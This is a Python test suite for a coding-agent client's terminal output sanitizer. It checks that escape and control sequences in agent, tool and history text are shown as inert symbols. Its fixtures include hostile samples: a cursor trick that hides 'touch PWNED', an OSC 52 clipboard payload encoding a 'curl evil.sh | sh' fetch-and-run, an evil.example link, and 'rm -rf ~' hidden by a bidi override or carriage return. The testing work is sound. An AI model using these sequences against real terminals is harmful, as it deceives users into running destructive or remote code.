"""cody-client's output gate (clients/cody_client/inert.py): hostile text reaches no terminal
as a control sequence, whichever renderer prints it, and no module reaches past the gate."""

from __future__ import annotations

import ast
import io
import json
import re
from pathlib import Path

import pytest
from cody_client.doctor import report_lines
from cody_client.history_cli import Transcript
from cody_client.inert import (
    Safe,
    TerminalStream,
    control,
    guard,
    inert,
    join,
    json_document,
    one_line,
    styled,
)
from cody_client.markdown import MarkdownStream
from cody_client.terminal import Renderer, Style
from cody_protocol.content import ContentToolCallContent, DiffToolCallContent, TextContent
from cody_protocol.history import UnifiedMessage
from cody_protocol.initialize import CodyInitializeMeta, ProviderInfo
from cody_protocol.permission import (
    PERMISSION_OPTIONS,
    CodyPermissionMeta,
    PermissionMeta,
    PermissionToolCall,
    RequestPermissionParams,
)
from cody_protocol.updates import (
    AgentMessageChunk,
    AgentThoughtChunk,
    ToolCallStart,
    ToolCallUpdate,
    UserMessageChunk,
)

CLIENT = Path(__file__).resolve().parents[2] / "clients" / "cody_client"

FORGED = "touch PWNED;: \x1b[14Dls -la\x1b[K"
"""Issue 20.5: shown raw, the terminal draws `ls -la` over `touch PWNED;: `."""

HOSTILE = {
    "cursor": FORGED,
    "osc52_clipboard": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "osc0_title": "\x1b]0;owned\x07",
    "osc8_link": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "c1_csi": "a\x9b2Jb",
    "bidi": "rm -rf ~ \u202e# txt.exe\u202c \u2066x\u2069",
    "del_and_nul": "a\x7fb\x00c\x08d",
    "lone_cr": "safe command\rrm -rf ~",
    "line_separator": "one\u2028two",
}

UNSAFE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069"
    "\ud800-\udfff]"
)
OWN_SGR = re.compile(r"\x1b\[[0-9;]*m")


def assert_inert(output: str, *, own_escapes: re.Pattern[str] = OWN_SGR) -> None:
    """Nothing but the client's own escapes (colours) is left to act on the terminal."""
    left = own_escapes.sub("", output)
    assert not UNSAFE.search(left), f"raw control left: {left!r}"


# -- the sanitizer ------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_inert_leaves_no_control_and_shows_each_one(text: str) -> None:
    shown = inert(text)
    assert not UNSAFE.search(shown)
    assert inert(shown) == shown and one_line(one_line(text)) == one_line(text)
    assert len(shown) >= len(text.replace("\r\n", "\n"))  # replaced, never dropped


def test_the_forged_command_shows_what_runs() -> None:
    assert inert(FORGED) == "touch PWNED;: ␛[14Dls -la␛[K"
    assert inert("a\x9bb\u202ec\x7f") == "a<U+009B>b<U+202E>c␡"


def test_newlines_and_tabs_stay_in_text_but_not_on_one_line() -> None:
    assert inert("a\n\tb\r\nc") == "a\n\tb\nc"
    assert one_line("ls\nWARNING fake line\tx\r\n") == "ls␊WARNING fake line␉x␍␊"
    assert one_line(styled("1", "a\nb")) == "\x1b[1ma␊b\x1b[0m"


def test_a_lone_surrogate_is_shown_not_a_crash() -> None:
    shown = inert("bad \ud800 byte")
    assert shown == "bad <U+D800> byte"
    shown.encode("utf-8")


def test_safe_text_keeps_its_own_escapes_and_makes_what_it_meets_inert() -> None:
    bold = styled("1", "title")
    assert bold + "\x1b]0;x\x07" == "\x1b[1mtitle\x1b[0m␛]0;x␇"
    assert "\x1b[2J" + bold == "␛[2J\x1b[1mtitle\x1b[0m"
    assert isinstance(bold + "x", Safe) and isinstance("x" + bold, Safe)
    assert join("\n", [bold, "\x1b[A"]) == "\x1b[1mtitle\x1b[0m\n␛[A"
    with pytest.raises(ValueError):
        styled("0m\x1b]0;x\x07", "x")
    with pytest.raises(ValueError):
        control("\x1b]52;c;eA==\x07")


def test_the_stream_makes_plain_text_inert_and_passes_safe_text() -> None:
    raw = io.StringIO()
    stream = guard(raw)
    assert guard(stream) is stream and isinstance(stream, TerminalStream)
    stream.write(FORGED)
    print(HOSTILE["osc52_clipboard"], file=stream)
    stream.write(styled("31", "red"))
    assert (
        raw.getvalue()
        == "touch PWNED;: ␛[14Dls -la␛[K␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇\n\x1b[31mred\x1b[0m"
    )


def test_json_keeps_the_value_and_loses_the_raw_controls() -> None:
    value = {"text": "".join(HOSTILE.values()), "key": "\u202e"}
    document = json_document(json.dumps(value, ensure_ascii=False, indent=2))
    assert not UNSAFE.search(document.replace("\n", ""))
    assert json.loads(document) == value


# -- every renderer goes through it -------------------------------------------------------


def _text(text: str) -> TextContent:
    return TextContent(text=text)


def _renderer(out: io.StringIO, color: bool, *, markdown: bool = False) -> Renderer:
    return Renderer(out=out, info=out, style=Style(color), markdown=markdown)


@pytest.mark.parametrize("color", [True, False])
def test_session_updates_render_inert(color: bool) -> None:
    hostile = "".join(HOSTILE.values())
    out = io.StringIO()
    renderer = _renderer(out, color)
    renderer.on_update(UserMessageChunk(content=_text(hostile)))
    renderer.on_update(AgentThoughtChunk(content=_text(hostile)))
    renderer.on_update(AgentMessageChunk(content=_text(hostile)))
    renderer.on_update(ToolCallStart(tool_call_id="c1", title=FORGED + "\n✓ fake", kind="execute"))
    renderer.on_update(
        ToolCallUpdate(
            tool_call_id="c1",
            status="completed",
            content=[ContentToolCallContent(content=_text(hostile + "\n" + hostile))],
        )
    )
    output = out.getvalue()
    assert_inert(output)
    assert "touch PWNED;: ␛[14Dls -la␛[K␊✓ fake" in output, "a title stays on one line"
    assert "␛]52;c;" in output and "<U+202E>" in output


@pytest.mark.parametrize("color", [True, False])
def test_the_approval_frame_shows_the_command_that_runs(color: bool) -> None:
    request = RequestPermissionParams(
        session_id="s",
        tool_call=PermissionToolCall(
            tool_call_id="c1",
            title=FORGED,
            kind="execute",
            content=[
                ContentToolCallContent(content=_text(f"$ {FORGED}\ncwd: /w\rcwd: /safe")),
                DiffToolCallContent(
                    path="/w/a\u202etxt.py\nfake", old_text="x\n", new_text="\x1b]0;t\x07\n"
                ),
            ],
        ),
        options=list(PERMISSION_OPTIONS),
        meta=PermissionMeta(cody=CodyPermissionMeta(request_id=1, grant_key=FORGED + "\nfake")),
    )
    out = io.StringIO()
    _renderer(out, color).show_approval(request)
    output = out.getvalue()
    assert_inert(output)
    plain = OWN_SGR.sub("", output)
    assert "Approval needed: touch PWNED;: ␛[14Dls -la␛[K" in plain
    assert "│ $ touch PWNED;: ␛[14Dls -la␛[K\n" in plain
    assert "│ cwd: /w␍cwd: /safe\n" in plain, "a CR cannot start a frame line of its own"
    assert "applies to touch PWNED;: ␛[14Dls -la␛[K␊fake" in plain
    assert "/w/a<U+202E>txt.py␊fake" in plain and "␛]0;t␇" in plain
    assert all(line.startswith(("╭", "│", "╰")) for line in plain.splitlines())


def test_streamed_markdown_renders_inert_and_shows_link_targets() -> None:
    out = io.StringIO()
    stream = MarkdownStream(guard(out))
    stream.console.width = 100
    for text in HOSTILE.values():
        stream.add(text + "\n\n")
    stream.add("[click here](https://evil.example/x)\n")
    assert stream.end()
    output = out.getvalue()
    # rich's own: colours, and the cursor moves and erases of its live display
    assert_inert(output, own_escapes=re.compile(r"\x1b\[[0-9;?]*[A-Za-z]"))
    assert "\x1b[14D" not in output and "\x1b]" not in output
    assert "␛[14Dls -la␛[K" in output and "␛]52;c;" in output
    assert "https://evil.example/x" in output, "a link shows where it goes"


@pytest.mark.parametrize("color", [True, False])
def test_history_transcripts_render_inert(color: bool) -> None:
    hostile = "".join(HOSTILE.values())
    out = io.StringIO()
    transcript = Transcript(out, Style(color))
    messages = [
        {"role": "user", "content": [{"type": "text", "text": hostile}]},
        {
            "role": "assistant",
            "content": [
                {"type": "thinking", "thinking": hostile},
                {"type": "text", "text": hostile},
                {
                    "type": "tool_use",
                    "id": "t1",
                    "name": "Bash\x1b[2J",
                    "input": {"command": FORGED},
                },
            ],
        },
        {
            "role": "user",
            "content": [{"type": "tool_result", "tool_use_id": "t1", "content": hostile}],
        },
        {"role": "system", "content": [{"type": "text", "text": hostile}]},
    ]
    for number, message in enumerate(messages):
        source = {"agent": "claude", "format": "claude-session", "path": "/f", "line": number}
        transcript.write(
            UnifiedMessage.model_validate({"id": f"m{number}", "source": source, **message})
        )
    output = out.getvalue()
    assert_inert(output)
    assert "▸ Bash␛[2J" in output and "touch PWNED;: ␛[14Dls -la␛[K" in output


def test_doctor_report_lines_are_one_line_each() -> None:
    provider = ProviderInfo.model_construct(
        id="p\x1b]0;x\x07", available=True, credentials="key\nReady."
    )
    meta = CodyInitializeMeta.model_construct(
        version="1",
        config_file="/c\x1b[2J/config.toml",
        data_dir="/d\nProviders ok",
        default_provider="p",
        providers=[provider],
        binaries=[],
    )
    lines, _ = report_lines(meta)
    text = "\n".join(lines)
    assert_inert(text)
    assert "/d␊Providers ok" in text and "key␊Ready." in text


# -- nothing reaches past the gate --------------------------------------------------------

RAW_ACCESS = {
    "__stdout__": "the process's original stdout",
    "__stderr__": "the process's original stderr",
    "buffer": "a stream's byte buffer",
    "unguarded": "the stream behind the gate",
    "raw_stream": "the stream behind the gate",
    "Safe(": "a string vouched for",
    "Console": "a rich console (writes its own escapes)",
    "FileProxy": "rich's stdout proxy",
}
ALLOWED = {
    "inert.py": set(RAW_ACCESS),
    # rich gets the raw stream and only inert text (markdown.py's docstring)
    "markdown.py": {"raw_stream", "Console"},
}


def _names(tree: ast.AST) -> list[tuple[str, int]]:
    found: list[tuple[str, int]] = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute):
            found.append((node.attr, node.lineno))
        elif isinstance(node, ast.Name):
            found.append((node.id, node.lineno))
        elif isinstance(node, ast.alias):
            found.append((node.name.split(".")[-1], node.lineno))
        if isinstance(node, ast.Constant) and isinstance(node.value, str):
            if any(device in node.value for device in ("/dev/tty", "/dev/pts")):
                found.append(("os.write", node.lineno))
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
            found.append((f"{node.func.id}(", node.lineno))
        elif isinstance(node, ast.Call) and ast.unparse(node.func) == "os.write":
            found.append(("os.write", node.lineno))
    return found


def test_no_client_module_reaches_past_the_gate() -> None:
    problems = []
    for path in sorted(CLIENT.glob("*.py")):
        allowed = ALLOWED.get(path.name, set())
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for name, line in _names(tree):
            if name == "os.write" or (name in RAW_ACCESS and name not in allowed):
                what = RAW_ACCESS.get(name, "a file descriptor or the terminal device")
                problems.append(f"{path.name}:{line}: {name} ({what})")
    assert problems == [], "write through inert.py's gate instead:\n" + "\n".join(problems)


def test_the_entry_point_installs_the_gate_before_anything_else() -> None:
    tree = ast.parse((CLIENT / "cli.py").read_text(encoding="utf-8"))
    main = next(
        node for node in ast.walk(tree) if isinstance(node, ast.FunctionDef) and node.name == "main"
    )
    first = (
        main.body[1]
        if isinstance(main.body[0], ast.Expr) and isinstance(main.body[0].value, ast.Constant)
        else main.body[0]
    )
    assert ast.unparse(first) == "install()"
